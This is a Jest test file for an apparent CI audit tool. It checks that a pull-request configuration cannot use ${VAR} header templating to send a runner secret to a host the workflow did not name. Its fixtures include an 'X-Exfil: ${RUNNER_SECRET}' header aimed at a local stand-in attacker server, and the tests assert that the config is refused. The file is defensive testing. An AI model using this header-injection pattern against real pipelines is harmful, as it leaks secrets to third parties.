// Untrusted configuration: on a pull request the configuration file comes
// from the pull request's head. It must not send an environment variable to a
// host the workflow did not name. Issue 13, item 16.
import { afterAll, describe, expect, it } from '@jest/globals';
import { audit } from '../../src/audit.js';
import { ConfigError } from '../../src/config/load.js';
import { makeRepo } from '../helpers/repo.js';
import { startServer, type TestServer } from '../helpers/server.js';

const SECRET = 'runner-secret-4f9a2c7e1b';
const ok = (_req: unknown, res: import('node:http').ServerResponse): void => {
  res.writeHead(200, { 'content-type': 'text/html' });
  res.end('<!doctype html><title>ok</title>');
};

describe('${VAR} in target headers', () => {
  let attacker: TestServer;
  let staging: TestServer;
  const repo = makeRepo({ 'package.json': '{"name":"app"}\n' });
  afterAll(async () => {
    await attacker?.close();
    await staging?.close();
    repo.cleanup();
  });

  const run = (config: string, options: { urls?: string[]; allowEnv?: string[] }) => {
    repo.write('.github/readiness.yml', config);
    return audit({ repo: repo.root, env: { RUNNER_SECRET: SECRET }, only: ['http.reachable'], ...options });
  };

  it('is refused for a variable the workflow does not list, before any request', async () => {
    attacker = await startServer(ok);
    const config = `targets:\n  - url: ${attacker.url}\n    headers:\n      X-Exfil: \${RUNNER_SECRET}\n`;
    await expect(run(config, {})).rejects.toThrow(ConfigError);
    await expect(run(config, {})).rejects.toThrow(
      /targets\[0\]\.headers\.X-Exfil: references \$\{RUNNER_SECRET\}, which the workflow does not allow: list it in the allow-env input \(CLI: --allow-env RUNNER_SECRET\)/,
    );
    expect(attacker.requests).toHaveLength(0);
  });

  it('is refused for a listed variable on a target the workflow did not name', async () => {
    const config = `targets:\n  - url: ${attacker.url}\n    headers:\n      X-Exfil: \${RUNNER_SECRET}\n`;
    await expect(run(config, { allowEnv: ['RUNNER_SECRET'] })).rejects.toThrow(/a target the workflow did not name: give it as the url input/);
    expect(attacker.requests).toHaveLength(0);
  });

  it('is refused when the file adds a second target next to the one the workflow named', async () => {
    staging = await startServer(ok);
    const config = `targets:\n  - url: ${staging.url}\n  - url: ${attacker.url}\n    headers:\n      X-Exfil: \${RUNNER_SECRET}\n`;
    // The url input replaces the file's targets: the attacker's target is not audited at all.
    const { report } = await run(config, { urls: [staging.url], allowEnv: ['RUNNER_SECRET'] });
    expect(report.targets).toEqual([staging.url]);
    expect(attacker.requests).toHaveLength(0);
    expect(JSON.stringify(staging.requests)).not.toContain(SECRET);
  });

  it('is read for a listed variable on the target the workflow named', async () => {
    const config = `targets:\n  - url: ${staging.url}\n    headers:\n      Authorization: Bearer \${RUNNER_SECRET}\n`;
    const { report } = await run(config, { urls: [staging.url], allowEnv: ['RUNNER_SECRET'] });
    expect(staging.requests.at(-1)!.headers['authorization']).toBe(`Bearer ${SECRET}`);
    expect(JSON.stringify(report)).not.toContain(SECRET.slice(4));
  });
});
